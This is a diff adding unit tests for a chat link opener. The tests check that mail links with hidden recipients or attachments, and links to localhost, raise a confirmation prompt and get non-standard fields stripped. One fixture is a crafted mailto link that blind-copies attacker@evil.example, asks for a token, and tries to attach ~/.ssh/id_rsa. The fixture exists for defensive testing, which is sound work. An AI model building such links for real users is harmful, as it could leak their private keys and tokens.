@@ -81,6 +81,37 @@ describe('openChatLink', () => {
   });
 });
 
+describe('openChatLink: mail and local links', () => {
+  it('asks before a mailto with a bcc and a body, listing every recipient and field, and opens it without attach=', async () => {
+    const url = 'mailto:team@example.com?bcc=attacker@evil.example&body=paste%20your%20token%20here&attach=/home/user/.ssh/id_rsa';
+    await openChatLink(url, 'team@example.com');
+    assert.deepEqual(opened, [], 'nothing opens before the user says so');
+    const [s] = shown;
+    assert.equal(s!.text, 'Write an e-mail to team@example.com, attacker@evil.example?');
+    assert.deepEqual(s!.items, ['Open E-mail']);
+    const o = s!.options as { modal: boolean; detail: string };
+    assert.equal(o.modal, true);
+    for (const line of ['To: team@example.com', 'Bcc: attacker@evil.example', 'Body: paste your token here', 'Removed before opening (not standard e-mail fields, such as attachments): attach']) {
+      assert.ok(o.detail.split('\n').includes(line), `${line} in ${o.detail}`);
+    }
+    answer = 'Open E-mail';
+    await openChatLink(url, 'team@example.com');
+    assert.deepEqual(opened, ['mailto:team@example.com?bcc=attacker@evil.example&body=paste%20your%20token%20here']);
+  });
+
+  it('opens a plain address with a subject without asking', async () => {
+    await openChatLink('mailto:team@example.com?subject=Bug%20report', 'team@example.com');
+    assert.deepEqual([shown.length, opened], [0, ['mailto:team@example.com?subject=Bug%20report']]);
+  });
+
+  it('asks before a local address even when the label names it, naming port and path', async () => {
+    await openChatLink('http://localhost:8002/metrics', 'localhost:8002');
+    assert.equal(shown[0]!.text, 'Open a link to localhost?');
+    assert.match((shown[0]!.options as { detail: string }).detail, /localhost is on this computer or your local network .*: port 8002, path \/metrics\./);
+    assert.deepEqual(opened, []);
+  });
+});
+
 describe('confirmInvisibleCharacters', () => {
   it('passes plain code on without asking', async () => {
     assert.equal(await confirmInvisibleCharacters('print("hi")\n\tx = 1\r\n', 'copy'), true);
